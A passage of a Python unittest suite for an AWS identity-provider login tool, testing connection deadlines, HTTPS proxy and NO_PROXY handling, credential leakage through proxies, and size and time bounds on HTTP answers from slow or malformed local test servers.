    test.addCleanup(setattr, socket, "getaddrinfo", real)


def answering_server(test, answer, host="127.0.0.1", port=0, family=socket.AF_INET,
                     until=b"\r\n\r\n", tls=False):
    """A server on ``host`` that keeps what each connection sends up to ``until``
    (a request head; b"": the first bytes) in ``.heads``, then sends it
    ``answer`` and hangs up (with TLS's close_notify when ``tls``, the test
    CA's certificate); ``.port`` is its port."""
    sock = socket.socket(family)
    sock.bind((host, port))
    sock.listen(8)
    test.addCleanup(sock.close)
    server = type("Server", (), {"heads": [], "port": sock.getsockname()[1]})()

    def serve():
        while True:
            try:
                client = sock.accept()[0]
            except OSError:
                return
            data = b""
            client.settimeout(5)
            try:
                if tls:
                    client = server_context().wrap_socket(client, server_side=True)
                while until not in data or not data:
                    chunk = client.recv(65536)
                    if not chunk:
                        break
                    data += chunk
                server.heads.append(data)
                client.sendall(answer)
                if tls:
                    client = client.unwrap()
            except OSError:
                pass
            client.close()
    thread = threading.Thread(target=serve)
    thread.daemon = True
    thread.start()
    return server


class ConnectDeadlineTest(unittest.TestCase):
    """One deadline bounds the name lookup and every address of a connect."""
    SLOW = True         # waits on real time: the runner starts it first

    def test_silent_addresses_share_one_connect_time(self):
        silent = SilentAddresses(6)
        self.addCleanup(silent.close)
        fake_resolver(self, {"silent.test": silent.addresses})
        for bound in ("connect_timeout", "deadline"):
            started = time.monotonic()
            kw = {bound: 1.5 if bound == "connect_timeout" else started + 1.5}
            with self.assertRaises(aws_login.NetworkError) as caught:
                aws_login._http_request("http://silent.test:%d/ecp" % silent.port, b"x",
                                        read_timeout=5, **kw)
            elapsed = time.monotonic() - started
            self.assertEqual(caught.exception.kind, "timeout", caught.exception)
            self.assertLess(elapsed, 2.5, bound)          # not 6 x 1.5 s

    def test_each_address_in_order_the_next_after_a_refusal_or_its_share(self):
        # 127.0.0.2 refuses, 127.0.0.3 is silent, 127.0.0.4 answers: the silent
        # one gets its share of the 4 s (2 s), not all of it.
        silent = SilentAddresses(2)         # 127.0.0.2 and .3 on one port
        self.addCleanup(silent.close)
        silent.listeners[0].close()         # now 127.0.0.2 refuses
        live = answering_server(self, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
                                host="127.0.0.4", port=silent.port)
        fake_resolver(self, {"three.test": ["127.0.0.2", "127.0.0.3", "127.0.0.4"]})
        started = time.monotonic()
        answer = aws_login._http_request("http://three.test:%d/ecp" % silent.port, b"x",
                                         connect_timeout=4)
        elapsed = time.monotonic() - started
        self.assertEqual(answer.body, b"ok")
        self.assertEqual(len(live.heads), 1)
        self.assertGreater(elapsed, 1.5)
        self.assertLess(elapsed, 3.2)       # the silent address had 4 s before

    def test_the_name_lookup_is_bounded_too(self):
        live = answering_server(self, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        released = threading.Event()
        self.addCleanup(released.set)

        def slow_lookup():          # a resolver that answers after 4 s
            released.wait(4)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", live.port))]
        fake_resolver(self, {"slow.test": slow_lookup})
        started = time.monotonic()
        with self.assertRaises(aws_login.NetworkError) as caught:
            aws_login._http_request("http://slow.test:%d/ecp" % live.port, b"x",
                                    connect_timeout=0.5)
        self.assertLess(time.monotonic() - started, 1.5)
        self.assertEqual(caught.exception.kind, "dns")
        self.assertEqual(str(caught.exception), "cannot resolve the host name of slow.test:%d "
                         "(no answer from DNS in time): check the URL and DNS" % live.port)
        self.assertEqual(live.heads, [])


class NoProxyTest(HomeTestCase):
    """HTTPS_PROXY and NO_PROXY read as urllib.request reads them (Python 3.13)."""

    # (NO_PROXY, URL, whether the proxy is bypassed), urllib 3.13's answers
    CASES = [
        ("*", "https://idp.example.test/ecp", True),
        ("*,other.test", "https://idp.example.test/ecp", False),
        ("idp.example.test", "https://idp.example.test/ecp", True),
        ("idp.example.test", "https://idp.example.test:8443/ecp", True),
        ("IDP.Example.TEST ", "https://idp.EXAMPLE.test/ecp", True),
        ("example.test", "https://idp.example.test/ecp", True),
        (".example.test", "https://idp.example.test/ecp", True),
        (".example.test", "https://example.test/ecp", True),
        ("xample.test", "https://idp.example.test/ecp", False),
        ("p.example.test", "https://idp.example.test/ecp", False),
        ("idp.example.test:443", "https://idp.example.test/ecp", False),
        ("idp.example.test:443", "https://idp.example.test:443/ecp", True),
        ("idp.example.test:8443", "https://idp.example.test:443/ecp", False),
        ("127.0.0.1:18444", "https://127.0.0.1:18444/ecp", True),
        ("127.0.0.1", "https://127.0.0.1:18444/ecp", True),
        ("127.0.0.1:18445", "https://127.0.0.1:18444/ecp", False),
        ("0.0.1", "https://127.0.0.1:18444/ecp", True),
        ("[::1]", "https://[::1]:8443/ecp", True),
        ("[::1]", "https://[::1]/ecp", True),
        ("[::1]:8443", "https://[::1]:8443/ecp", True),
        ("[::1]:8444", "https://[::1]:8443/ecp", False),
        ("::1", "https://[::1]:8443/ecp", False),
        ("::1", "https://[::1]/ecp", False),
        ("other.test, ,idp.example.test", "https://idp.example.test/ecp", True),
        ("other.test", "https://idp.example.test/ecp", False),
        ("", "https://idp.example.test/ecp", False),
        (",", "https://idp.example.test/ecp", False),
        ("10.0.0.0/8", "https://10.1.2.3/ecp", False),
    ]

    def test_no_proxy_forms_as_urllib_matches_them(self):
        os.environ["HTTPS_PROXY"] = "http://127.0.0.1:9"
        for no_proxy, url, bypassed in self.CASES:
            os.environ["NO_PROXY"] = no_proxy
            self.assertEqual(aws_login._proxy_for(url) is None, bypassed, (no_proxy, url))
            if sys.version_info >= (3, 11):        # urllib's code is 3.13's since
                self.assertEqual(urllib_request.proxy_bypass_environment(
                    urlsplit(url).netloc, {"no": no_proxy} if no_proxy else {}), bypassed)

    def test_which_variable_counts_as_urllib_reads_them(self):
        for env, variable in (({"HTTPS_PROXY": "http://a:1"}, "HTTPS_PROXY"),
                              ({"https_proxy": "http://a:1"}, "https_proxy"),
                              ({"HTTPS_PROXY": "http://b:1", "https_proxy": "http://a:1"},
                               "https_proxy"),
                              ({"HTTPS_PROXY": "http://b:1", "https_proxy": ""}, None),
                              ({"Https_Proxy": "http://a:1"}, "Https_Proxy")):
            for name in ("HTTPS_PROXY", "https_proxy", "Https_Proxy"):
                os.environ.pop(name, None)
            os.environ.update(env)
            proxy = aws_login._proxy_for("https://idp.example.test/ecp")
            self.assertEqual(proxy and proxy.variable, variable, env)
            self.assertEqual(proxy and proxy.host, variable and "a", env)
            theirs = urllib_request.getproxies_environment().get("https")
            self.assertEqual(theirs, variable and "http://a:1", env)
        os.environ["no_proxy"], os.environ["NO_PROXY"] = "", "idp.example.test"
        self.assertIsNotNone(aws_login._proxy_for("https://idp.example.test/ecp"))

    def test_a_proxy_costs_no_import_of_urllib_request(self):
        code = ("import sys;sys.path.insert(0,%r);import aws_login;"
                "print(aws_login._proxy_for('https://idp.example.test/ecp'));"
                "print('urllib.request' in sys.modules)" % HERE)
        env = dict(os.environ, HTTPS_PROXY="http://u:p@proxy.test:3128", NO_PROXY="other.test")
        out = subprocess.check_output([sys.executable, "-I", "-S", "-c", code], env=env)
        self.assertEqual(out.decode().split("\n")[1:], ["False", ""])


class TlsConnectProxy(ConnectProxy):
    """ConnectProxy behind TLS (the test CA's certificate for 127.0.0.1), as an
    https:// proxy URL asks for.  Keeps each CONNECT head, and answers 407 to
    one without the Proxy-Authorization of ``credentials`` (user, password)."""

    def __init__(self, credentials=None, cert=SERVER_CERT_PEM, key=SERVER_KEY_PEM):
        ConnectProxy.__init__(self)
        self.heads, self.context = [], server_context(cert, key)
        self.authorization = credentials and "Basic " + base64.b64encode(
            ("%s:%s" % credentials).encode()).decode()

    def _tunnel(self, client):
        try:
            client.settimeout(10)
            client = self.context.wrap_socket(client, server_side=True)
            head = b""
            while b"\r\n\r\n" not in head:
                chunk = client.recv(4096)
                if not chunk:
                    return client.close()
                head += chunk
        except (OSError, ssl.SSLError):
            return client.close()
        self.heads.append(head)
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n")[1:] if line)
        target = head.split(b" ")[1].decode()
        self.connects.append(target)
        if self.authorization and fields.get("Proxy-Authorization") != self.authorization:
            client.sendall(b"HTTP/1.1 407 Proxy Authentication Required\r\n"
                           b"Proxy-Authenticate: Basic realm=\"test\"\r\nContent-Length: 0\r\n\r\n")
            return client.close()
        host, port = target.rsplit(":", 1)
        upstream = socket.create_connection((host, int(port)))
        client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        try:
            while True:
                # Bytes TLS has read and decrypted already are not the socket's to signal.
                ready = [client] if client.pending() else select.select(
                    [client, upstream], [], [], 10)[0]
                if not ready:
                    break
                for s in ready:
                    data = s.recv(65536)
                    if not data:
                        return
                    self.seen += data
                    (upstream if s is client else client).sendall(data)
        except (OSError, ssl.SSLError):
            pass
        finally:
            client.close()
            upstream.close()


class ProxyTest(LoginTestCase):
    """HTTPS_PROXY: TLS to an https:// proxy, the CONNECT line, and failures that
    name the proxy and its variable, never the IdP."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)

    def test_an_https_proxy_gets_tls_and_its_password_only_inside(self):
        proxy = TlsConnectProxy(("proxy user", "proxy:pass")).start()
        self.addCleanup(proxy.stop)
        url = "https://proxy%%20user:proxy%%3Apass@127.0.0.1:%d" % proxy.port
        run = self.tool(["login"], terminal=False, env={"HTTPS_PROXY": url})
        self.assert_logged_in(run)
        self.assertEqual(sorted(set(proxy.connects)),
                         sorted({self.idp.host_port, self.sts.host_port}))
        self.assertIn(b"Proxy-Authorization: Basic " + base64.b64encode(b"proxy user:proxy:pass"),
                      proxy.heads[0])
        self.assertNotIn(PASSWORD.encode(), proxy.seen)     # the IdP's TLS inside the proxy's

    def test_an_https_proxys_certificate_is_checked_even_when_the_idps_is_not(self):
        proxy = TlsConnectProxy(cert=UNTRUSTED_CERT_PEM, key=UNTRUSTED_KEY_PEM).start()
        self.addCleanup(proxy.stop)
        self.configure(verify_ssl_certificate="false")     # the IdP's setting only
        run = self.tool(["login"], terminal=False,
                        env={"HTTPS_PROXY": "https://u:p@127.0.0.1:%d" % proxy.port})
        self.assertEqual(run.code, 8, run)
        self.assertIn("TLS certificate of the proxy 127.0.0.1:%d (HTTPS_PROXY) not trusted"
                      % proxy.port, run.stderr)
        self.assertEqual((proxy.heads, self.idp.requests), ([], []))

    def test_every_framing_through_an_https_proxy(self):
        proxy = TlsConnectProxy().start()
        self.addCleanup(proxy.stop)
        os.environ["HTTPS_PROXY"] = "https://127.0.0.1:%d" % proxy.port
        body = b"<x>" + b"y" * 70000 + b"</x>"      # more than one TLS record
        chunked = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 9000]), body[i:i + 9000])
                           for i in range(0, len(body), 9000)) + b"0\r\n\r\n"
        for name, raw in (
                ("length", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body),
                                                                                 body)),
                ("chunked", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked),
                ("to the end", b"HTTP/1.0 200 OK\r\n\r\n" + body)):
            server = answering_server(self, raw, tls=True)
            answer = aws_login._http_request("https://127.0.0.1:%d/ecp" % server.port, b"x")
            self.assertEqual((answer.status, answer.body), (200, body), name)
            self.assertEqual(proxy.connects[-1], "127.0.0.1:%d" % server.port)

    def test_an_https_proxy_that_speaks_plain_http_gets_no_password(self):
        plain = answering_server(self, b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n",
                                 until=b"")     # a proxy that answers a TLS hello as HTTP
        url = "https://proxyuser:s3cret-proxy@127.0.0.1:%d" % plain.port
        run = self.tool(["login"], terminal=False, env={"HTTPS_PROXY": url})
        sent = b"".join(plain.heads)
        for secret in (b"s3cret-proxy", base64.b64encode(b"proxyuser:s3cret-proxy")):
            self.assertNotIn(secret, sent)
        self.assertNotIn(b"CONNECT", sent)
        self.assert_nothing_written(run, 8)
        self.assertIn("the proxy 127.0.0.1:%d (HTTPS_PROXY) answers in plain HTTP, not TLS"
                      % plain.port, run.stderr)
        self.assertNotIn("s3cret-proxy", run.stderr)

    def test_a_wrong_proxy_password_is_the_proxys_refusal(self):
        proxy = TlsConnectProxy(("proxyuser", "right")).start()
        self.addCleanup(proxy.stop)
        for url, words in (
                ("https://proxyuser:wrong@127.0.0.1:%d" % proxy.port,
                 "refused the credentials in HTTPS_PROXY (HTTP 407)"),
                ("https://127.0.0.1:%d" % proxy.port,
                 "asks for credentials (HTTP 407): put them in HTTPS_PROXY as "
                 "https://USER:PASSWORD@127.0.0.1:%d" % proxy.port)):
            run = self.tool(["login"], terminal=False, env={"HTTPS_PROXY": url})
            self.assert_nothing_written(run, 8)
            self.assertIn("the proxy 127.0.0.1:%d (HTTPS_PROXY) %s" % (proxy.port, words),
                          run.stderr)
            self.assertNotIn("wrong", run.stderr)
        self.assertEqual(self.idp.requests, [])

    def test_a_proxy_that_is_down_is_named_with_its_variable(self):
        closed = socket.socket()
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
        closed.close()
        run = self.tool(["login"], terminal=False,
                        env={"https_proxy": "http://127.0.0.1:%d" % port})
        self.assert_nothing_written(run, 8)
        self.assertIn("connection refused by the proxy 127.0.0.1:%d (https_proxy)" % port,
                      run.stderr)
        self.assertNotIn("is the URL right", run.stderr)
        self.assertEqual(self.idp.requests, [])

    def test_answers_other_than_2xx_to_connect_name_the_proxy(self):
        for status, words, transient in (
                (b"407 Proxy Authentication Required", "asks for credentials (HTTP 407): put "
                 "them in HTTPS_PROXY as http://USER:PASSWORD@127.0.0.1:%d", False),
                (b"403 Forbidden", "refused the tunnel (HTTP 403) to idp.example.test:443",
                 False),
                (b"502 Bad Gateway", "refused the tunnel (HTTP 502) to idp.example.test:443",
                 True)):
            proxy = answering_server(self, b"HTTP/1.1 %s\r\nContent-Length: 0\r\n\r\n" % status)
            os.environ["HTTPS_PROXY"] = "127.0.0.1:%d" % proxy.port
            with self.assertRaises(aws_login.NetworkError) as caught:
                aws_login._http_request("https://idp.example.test/ecp", b"x")
            self.assertEqual(str(caught.exception), "the proxy 127.0.0.1:%d (HTTPS_PROXY) %s"
                             % (proxy.port, words.replace("%d", str(proxy.port))))
            self.assertEqual((caught.exception.kind, caught.exception.transient),
                             ("proxy", transient))
        proxy = answering_server(self, b"HTTP/1.1 200 OK\r\n\r\n")   # 2xx: the tunnel is open
        os.environ["HTTPS_PROXY"] = "127.0.0.1:%d" % proxy.port
        with self.assertRaises(aws_login.NetworkError) as caught:
            aws_login._http_request("https://idp.example.test/ecp", b"x")
        self.assertNotIn("proxy", str(caught.exception))        # it failed past the proxy

    def test_an_unresolvable_or_silent_proxy_is_named(self):
        silent = SilentAddresses(1)
        self.addCleanup(silent.close)
        fake_resolver(self, {"proxy.test": lambda: (_ for _ in ()).throw(
            socket.gaierror(socket.EAI_NONAME, "Name or service not known"))})
        for proxy_url, words in (
                ("http://proxy.test:3128", "cannot resolve the host name of the proxy "
                 "proxy.test:3128 (HTTPS_PROXY): check HTTPS_PROXY and DNS"),
                ("http://127.0.0.2:%d" % silent.port, "no answer from the proxy 127.0.0.2:%d "
                 "(HTTPS_PROXY) in time (timed out)" % silent.port)):
            os.environ["HTTPS_PROXY"] = proxy_url
            with self.assertRaises(aws_login.NetworkError) as caught:
                aws_login._http_request("https://idp.example.test/ecp", b"x",
                                        connect_timeout=0.5)
            self.assertEqual(str(caught.exception), words)
            self.assertEqual(caught.exception.kind, "proxy")

    def test_the_connect_line_brackets_an_ipv6_literal(self):
        proxy = answering_server(self, b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
        os.environ["HTTPS_PROXY"] = "http://127.0.0.1:%d" % proxy.port
        with self.assertRaises(aws_login.NetworkError):
            aws_login._http_request("https://[::1]:8443/ecp", b"x")
        lines = proxy.heads[0].decode().split("\r\n")
        self.assertEqual(lines[0], "CONNECT [::1]:8443 HTTP/1.1")
        self.assertIn("Host: [::1]:8443", lines)


class TrickleServer(object):
    """Accepts connections and sends an HTTP status line one byte at a time,
    every ``interval`` seconds, for at most ``limit`` seconds: a server that
    never finishes an answer but never lets a read time out."""

    def __init__(self, tls=False, interval=0.2, limit=25):
        self.tls, self.interval, self.limit = tls, interval, limit
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.stopping = threading.Event()
        self.connections = 0
        thread = threading.Thread(target=self._serve)
        thread.daemon = True
        thread.start()

    @property
    def url(self):
        return "%s://127.0.0.1:%d/ecp" % ("https" if self.tls else "http", self.port)

    def _serve(self):
        while not self.stopping.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            t = threading.Thread(target=self._trickle, args=(conn,))
            t.daemon = True
            t.start()

    def _trickle(self, conn):
        try:
            if self.tls:
                conn.settimeout(10)
                conn = server_context().wrap_socket(conn, server_side=True)
            conn.settimeout(1)
            started = time.time()
            for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 10000:
                if self.stopping.wait(self.interval) or time.time() - started > self.limit:
                    break
                conn.sendall(bytes([byte]))
        except (OSError, ssl.SSLError):
            pass
        finally:
            conn.close()

    def stop(self):
        self.stopping.set()
        self.sock.close()


class DeadlineTest(LoginTestCase):
    """A server that sends a byte now and then must not hold us past a deadline."""
    SLOW = True         # waits on real time: the runner starts it first

    def trickle(self, **kw):
        server = TrickleServer(**kw)
        self.addCleanup(server.stop)
        return server

    def test_a_trickling_answer_ends_at_the_request_deadline(self):
        for tls in (False, True):
            server = self.trickle(tls=tls)
            context = aws_login._make_ssl_context() if tls else None
            started = time.monotonic()
            with self.assertRaises(aws_login.NetworkError) as caught:
                # Each byte comes well within the read timeout; only the total can end it.
                aws_login._http_request(server.url, b"x", ssl_context=context,
                                        connect_timeout=1, read_timeout=1.5)
            elapsed = time.monotonic() - started
            self.assertEqual(caught.exception.kind, "timeout", caught.exception)
            self.assertIn("timed out", str(caught.exception))
            self.assertGreater(elapsed, 2)      # the 2.5 s total, not a read timeout
            self.assertLess(elapsed, 12, tls)

    def test_an_explicit_deadline_shortens_the_request(self):
        server = self.trickle()
        started = time.monotonic()
        with self.assertRaises(aws_login.NetworkError) as caught:
            aws_login._http_request(server.url, b"x", deadline=time.monotonic() + 1)
        self.assertEqual(caught.exception.kind, "timeout")
        self.assertLess(time.monotonic() - started, 10)
        with self.assertRaises(aws_login.NetworkError) as caught:   # no time left at all
            aws_login._http_request(server.url, b"x", deadline=time.monotonic() - 1)
        self.assertEqual(caught.exception.kind, "timeout")

    def test_credential_process_renewal_has_its_own_time_limit(self):
        # The cached path's renewal holds the renewal lock that every `aws`
        # call of the profile waits for: it must end by RENEWAL_TIME_LIMIT.
        server = self.trickle(tls=True)
        self.configure(ecp_endpoint_url=server.url, username="alice", factor="auto",
                       password=PASSWORD)
        saved = aws_login._RenewalSchedule.TIME_LIMIT
        aws_login._RenewalSchedule.TIME_LIMIT = 1.5
        self.addCleanup(setattr, aws_login._RenewalSchedule, "TIME_LIMIT", saved)
        started = time.monotonic()
        with self.assertRaises(aws_login.AwsLoginError) as caught:
            aws_login._renew_for_process("default", None)
        self.assertIn("in time", str(caught.exception))
        self.assertLess(time.monotonic() - started, 12)
        self.assertEqual(server.connections, 1)

    def test_a_login_deadline_covers_every_request(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        server = self.trickle(tls=True)
        os.environ["AWS_ENDPOINT_URL_STS"] = server.url    # the IdP answers; STS trickles
        profile = aws_login.read_profile("default")
        started = time.monotonic()
        with self.assertRaises(aws_login.NetworkError) as caught:
            aws_login.login(profile, aws_login.Terminal(None), interactive=False,
                            deadline=time.monotonic() + 2)
        self.assertEqual(caught.exception.kind, "timeout")
        self.assertLess(time.monotonic() - started, 12)
        self.assertEqual(len(self.idp.requests), 1)
        self.assertFalse(os.path.exists(self.credentials_file))


@unittest.skipUnless(shutil.which("openssl"), "needs the openssl command to name hashed files")
class DocumentedBoundsTest(unittest.TestCase):
    """The bounds the README's threat model promises are the ones the code keeps."""

    def test_every_wait_and_size_bound(self):
        import inspect
        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
            readme = " ".join(f.read().split())
        request = inspect.signature(aws_login._http_request).parameters
        for words, value in (
                ("a connect timeout (%d s)", request["connect_timeout"].default),
                ("a read timeout (%d s for the IdP", request["read_timeout"].default),
                ("must finish within %d s in all", aws_login._RenewalSchedule.TIME_LIMIT),
                ("is waited for %d s at most", aws_login._DirectoryLock(HERE).timeout),
                ("more than %d MiB from a server", aws_login._MAX_ANSWER_BYTES >> 20),
                ("nested over %d elements deep", aws_login._MAX_XML_DEPTH),
                ("over %d namespace declarations", aws_login._MAX_XML_NAMESPACES)):
            self.assertIn(words % value, readme)
        self.assertIn("over {:,} elements".format(aws_login._MAX_XML_ELEMENTS), readme)


class HttpBoundsTest(unittest.TestCase):
    """What a server or a proxy sends is read within bounds: a chunked body's
    framing counts against the answer's cap, a head is bounded in lines (folded
    ones too) and bytes (interim answers too), a proxy's answer to CONNECT
    tighter still; and the deadline's hang-up never shuts a descriptor that
    its exchange closed meanwhile."""

    def serve(self, answer, hold=False):
        """A server that sends ``answer`` to one request, then closes the
        connection (or, with ``hold``, keeps it open until the test ends)."""
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        ended = threading.Event()
        self.addCleanup(server.close)
        self.addCleanup(ended.set)

        def run():
            try:
                client = server.accept()[0]
            except OSError:
                return
            try:
                data = b""
                while b"\r\n\r\n" not in data:
                    chunk = client.recv(65536)
                    if not chunk:
                        break
                    data += chunk
                client.sendall(answer)
                if hold:
                    ended.wait(10)
            except OSError:
                pass
            finally:
                client.close()
        thread = threading.Thread(target=run)
        thread.daemon = True
        thread.start()
        return "http://127.0.0.1:%d/ecp" % server.getsockname()[1]

    def broken(self, raw, reason, **kw):
        with self.assertRaises(aws_login.NetworkError) as caught:
            aws_login._http_request(self.serve(raw, kw.pop("hold", False)), b"x", **kw)
        self.assertEqual(caught.exception.kind, "broken", caught.exception)
        self.assertIn("(%s" % reason, str(caught.exception))

    CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"

    def test_a_negative_chunk_size_is_refused_before_any_read(self):
        # int(line, 16) took "-1", and read(-1) then read without a bound.
        self.broken(self.CHUNKED + b"-1\r\n" + b"a" * 3000, "IncompleteRead", hold=True,
                    max_bytes=1000, connect_timeout=1, read_timeout=1)

    def test_a_chunk_size_is_hex_digits_of_bounded_length(self):
        data = b"0123456789abcdef"
        for size in (b"+10", b"1_0", b"0x10", b"-0", b" ", b"1 0", b"0" * 15 + b"10"):
            self.broken(self.CHUNKED + size + b"\r\n" + data + b"\r\n0\r\n\r\n",
                        "IncompleteRead")
        for size in (b"10", b"0010", b"10;name=value", b"10 ; name", b"10\t;x=\"y\"",
                     b"0" * 14 + b"10"):
            answer = aws_login._http_request(self.serve(
                self.CHUNKED + size + b"\r\n" + data + b"\r\n0\r\n\r\n"), b"x")
            self.assertEqual(answer.body, data, size)

    def test_a_chunked_bodys_framing_counts_against_the_cap(self):
        # Ten bytes of body in 2 KB of chunk extensions, or after 2 KB of trailers.
        for raw in (self.CHUNKED + (b"1;" + b"e" * 200 + b"\r\nx\r\n") * 10 + b"0\r\n\r\n",
                    self.CHUNKED + b"a\r\n0123456789\r\n0\r\n" + b"T: 1\r\n" * 400 + b"\r\n"):
            with self.assertRaisesRegex(aws_login.IdPError, "over 1000 bytes"):
                aws_login._http_request(self.serve(raw), b"x", max_bytes=1000)

    def test_an_answer_exactly_at_each_bound_is_read(self):
        body, short = b"a" * 1000, b"a" * 988
        for raw, sent in ((b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n" + body, body),
                          (b"HTTP/1.0 200 OK\r\n\r\n" + body, body),
                          (self.CHUNKED + b"3dc\r\n" + short + b"\r\n0\r\n\r\n", short)):
            answer = aws_login._http_request(self.serve(raw), b"x", max_bytes=1000)
            self.assertEqual(answer.body, sent)         # the chunked one: 1000 bytes in all
        # A head of _MAX_HEAD_BYTES, its first header line of _MAX_LINE bytes; then a byte more.
        head = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n"
        left = aws_login._MAX_HEAD_BYTES - len(head) - 2
        while left:
            size = min(left, aws_login._MAX_LINE)
            head, left = head + b"X: " + b"a" * (size - 5) + b"\r\n", left - size
        self.assertEqual(len(head) + 2, aws_login._MAX_HEAD_BYTES)
        self.assertEqual(aws_login._http_request(self.serve(head + b"\r\nok"), b"x").body, b"ok")
        self.broken(head[:-2] + b"a\r\n\r\nok", "HeadTooLong")

    def test_a_status_and_a_content_length_are_ascii_digits_and_may_be_huge(self):
        self.broken(b"HTTP/1.1 2\xb20 OK\r\nContent-Length: 0\r\n\r\n", "BadStatusLine")
        self.broken(b"HTTP/1.1 200 OK\r\nContent-Length: \xb2\r\n\r\nab", "BadContentLength")
        self.broken(b"HTTP/1.1 200 OK\r\nContent-Length: \xd9\xa3\r\n\r\nabc",
                    "BadContentLength")
        with self.assertRaisesRegex(aws_login.IdPError, "over 1000 bytes"):
            aws_login._http_request(self.serve(
                b"HTTP/1.1 200 OK\r\nContent-Length: " + b"1" * 5000 + b"\r\n\r\nab"), b"x",
                max_bytes=1000)

    def test_folded_lines_count_as_header_lines(self):
        self.broken(b"HTTP/1.1 200 OK\r\nX: 1\r\n" + b" more\r\n" * 150 +
                    b"Content-Length: 2\r\n\r\nok", "TooManyHeaders")
        answer = aws_login._http_request(self.serve(
            b"HTTP/1.1 200 OK\r\nX: a\r\n b\r\n\t c \r\nContent-Length: 2\r\n\r\nok"), b"x")
        self.assertEqual((answer.headers.get("x"), answer.body), ("a b c", b"ok"))

    def test_a_head_is_bounded_in_bytes_interim_answers_included(self):
        self.broken(b"HTTP/1.1 200 OK\r\n" + (b"X: " + b"a" * 60000 + b"\r\n") * 6 +
                    b"Content-Length: 2\r\n\r\nok", "HeadTooLong")
        self.broken(b"HTTP/1.1 100 Continue\r\n\r\n" * 20000 +
                    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", "HeadTooLong")
        self.broken(b"HTTP/1.1 200 OK\r\nX: 1\r\n" + (b" " + b"a" * 60000 + b"\r\n") * 6 +
                    b"Content-Length: 2\r\n\r\nok", "HeadTooLong")

    def test_a_proxys_answer_to_connect_is_read_within_a_small_bound(self):
        proxy = self.serve(b"HTTP/1.1 200 Connection established\r\n" +
                           (b"X: " + b"a" * 1000 + b"\r\n") * 20 + b"\r\n")
        os.environ["HTTPS_PROXY"] = proxy.rsplit("/", 1)[0]
        self.addCleanup(os.environ.pop, "HTTPS_PROXY")
        with self.assertRaises(aws_login.NetworkError) as caught:
            aws_login._http_request("https://idp.example.edu/ecp", b"x",
                                    ssl_context=aws_login._make_ssl_context())
        self.assertIn("broken HTTP answer (HeadTooLong)", str(caught.exception))

    def test_the_readme_states_these_bounds(self):
        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
            readme = " ".join(f.read().split())
        words = ("an answer's head over %d KiB or %d header lines (a proxy's answer to "
                 "CONNECT: %d KiB)" % (aws_login._MAX_HEAD_BYTES >> 10, aws_login._MAX_HEADERS,
                                       aws_login._MAX_PROXY_HEAD_BYTES >> 10))
        self.assertTrue(words in readme, words)

    def test_a_late_hang_up_never_shuts_a_descriptor_closed_meanwhile(self):
        # The watchdog fires as the exchange ends: its owner closes the socket
        # while the hang-up is under way, and the next socket opened (in
        # `exec --server`, another connection's) takes the same number.
        ours, peer = socket.socketpair()
        self.addCleanup(peer.close)
        number, reused, owner = ours.fileno(), [], []

        def close_and_reuse():
            connection.close()
            reused.extend(socket.socketpair())

        class Racing(socket.socket):
            def fileno(self):
                if not owner:       # the watchdog's look: the owner closes now,
                    owner.append(threading.Thread(target=close_and_reuse))
                    owner[0].start()
                    owner[0].join(0.2)  # or waits, unable to, until the hang-up ends
                return number
        connection = aws_login._Connection()
        connection.sock = Racing(ours.family, ours.type, 0, ours.detach())
        connection.hang_up()
        self.assertTrue(connection.hung_up)
        owner[0].join(5)
        for sock in reused:
            self.addCleanup(sock.close)
        self.assertEqual(reused[0].fileno(), number)        # the number was reused
        reused[1].sendall(b"still open")
        self.assertEqual(reused[0].recv(64), b"still open")
        reused[0].sendall(b"both ways")
        self.assertEqual(reused[1].recv(64), b"both ways")
        peer.settimeout(5)
        self.assertEqual(peer.recv(64), b"")                 # ours did end


class NetworkErrorWordsTest(unittest.TestCase):
    """What a failed connection says, by its kind."""

    def test_a_tls_failure_is_plain_http_only_when_openssl_says_so(self):
        import ssl
        plain = "answers in plain HTTP, not TLS"
        for reason, words in (("WRONG_VERSION_NUMBER", plain), ("PACKET_LENGTH_TOO_LONG", plain),
                              ("RECORD_LAYER_FAILURE", plain), ("HTTP_REQUEST", plain),
                              ("NO_SHARED_CIPHER", "TLS failure talking to idp.test: ")):
            error = ssl.SSLError(1, "[SSL: %s] x" % reason)
            error.reason = reason
            self.assertIn(words, aws_login._describe_network_error(
                error, "https://idp.test/ecp"), reason)

    def test_an_untrusted_certificate_says_why(self):
        import ssl
        error = getattr(ssl, "SSLCertVerificationError", ssl.SSLError)(   # 3.6: SSLError
            1, "[SSL: CERTIFICATE_VERIFY_FAILED] x")
        error.reason, error.verify_message = "CERTIFICATE_VERIFY_FAILED", "self-signed certificate"
        text = aws_login._describe_network_error(error, "https://idp.test/ecp")
        self.assertIn("not trusted (self-signed certificate): if your site uses a private CA",
                      text)


class SystemRootsTest(LoginTestCase):
    """The system's CAs from a hashed folder (read lazily) when the bundle lies in
    it; both when the bundle is elsewhere."""

    def hashed_folder(self, with_ca=True):
